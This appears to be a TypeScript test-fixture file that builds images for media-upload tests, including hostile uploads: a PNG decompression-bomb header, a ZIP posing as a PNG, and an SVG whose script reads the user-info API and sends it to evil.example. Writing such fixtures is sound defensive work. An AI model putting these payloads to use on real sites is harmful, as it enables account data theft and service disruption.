import { crc32, deflateSync } from 'node:zlib';
import sharp from 'sharp';

/**
 * Image bytes for the media tests (issue 31), made here rather than shipped: real PNG, JPEG, WebP and GIF from sharp,
 * and the hostile uploads crafted byte by byte.
 */

/** A picture with detail and transparency: a gradient square on a transparent ground. */
export function picture(width: number, height: number, format: 'png' | 'jpeg' | 'webp' | 'gif' = 'png'): Promise<Buffer> {
  const svg = `<svg xmlns="http://www.w3.org/2000/svg" width="${width}" height="${height}">
    <defs><linearGradient id="g"><stop offset="0" stop-color="#e11d48"/><stop offset="1" stop-color="#1d4ed8"/></linearGradient></defs>
    <rect x="${width / 4}" y="${height / 4}" width="${width / 2}" height="${height / 2}" fill="url(#g)"/></svg>`;
  const image = sharp(Buffer.from(svg));
  return (format === 'jpeg' ? image.flatten({ background: '#ffffff' }).jpeg() : image[format]()).toBuffer();
}

function chunk(type: string, data: Buffer): Buffer {
  const length = Buffer.alloc(4);
  length.writeUInt32BE(data.length);
  const body = Buffer.concat([Buffer.from(type, 'latin1'), data]);
  const crc = Buffer.alloc(4);
  crc.writeUInt32BE(crc32(body));
  return Buffer.concat([length, body, crc]);
}

/**
 * A decompression bomb's shape: a valid PNG header claiming `width` × `height` px (8-bit grey) and a tiny IDAT, a few
 * hundred bytes that a decoder would turn into width × height bytes of pixels.
 */
export function pngClaiming(width: number, height: number): Buffer {
  const ihdr = Buffer.alloc(13);
  ihdr.writeUInt32BE(width, 0);
  ihdr.writeUInt32BE(height, 4);
  ihdr.set([8, 0, 0, 0, 0], 8); // bit depth 8, grey, deflate, adaptive filter, no interlace
  // The first rows only: filter byte 0 and zeros, compressed to almost nothing.
  const idat = deflateSync(Buffer.alloc(4 * (width + 1)));
  return Buffer.concat([
    Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]),
    chunk('IHDR', ihdr),
    chunk('IDAT', idat),
    chunk('IEND', Buffer.alloc(0)),
  ]);
}

/** A ZIP archive of one stored file (what a `.png` that is really a ZIP holds), written by the format's own rules. */
export function zipOf(name: string, content: Buffer): Buffer {
  const fileName = Buffer.from(name, 'utf8');
  const crc = crc32(content);
  const local = Buffer.alloc(30);
  local.writeUInt32LE(0x04034b50, 0);
  local.writeUInt16LE(10, 4); // version needed
  local.writeUInt32LE(crc, 14);
  local.writeUInt32LE(content.length, 18);
  local.writeUInt32LE(content.length, 22);
  local.writeUInt16LE(fileName.length, 26);
  const central = Buffer.alloc(46);
  central.writeUInt32LE(0x02014b50, 0);
  central.writeUInt16LE(20, 4);
  central.writeUInt16LE(10, 6);
  central.writeUInt32LE(crc, 16);
  central.writeUInt32LE(content.length, 20);
  central.writeUInt32LE(content.length, 24);
  central.writeUInt16LE(fileName.length, 28);
  const centralAt = local.length + fileName.length + content.length;
  const end = Buffer.alloc(22);
  end.writeUInt32LE(0x06054b50, 0);
  end.writeUInt16LE(1, 8);
  end.writeUInt16LE(1, 10);
  end.writeUInt32LE(central.length + fileName.length, 12);
  end.writeUInt32LE(centralAt, 16);
  return Buffer.concat([local, fileName, content, central, fileName, end]);
}

/** An SVG that runs a script when opened as a page (what `/media/x.svg` would do on the store's own origin). */
export const SVG_WITH_SCRIPT = Buffer.from(
  '<?xml version="1.0" encoding="UTF-8"?>\n<svg xmlns="http://www.w3.org/2000/svg" width="800" height="400">' +
    '<script>fetch("/api/market/api/user/info").then(r=>r.text()).then(t=>navigator.sendBeacon("https://evil.example",t))</script>' +
    '<rect width="800" height="400" fill="red"/></svg>',
);
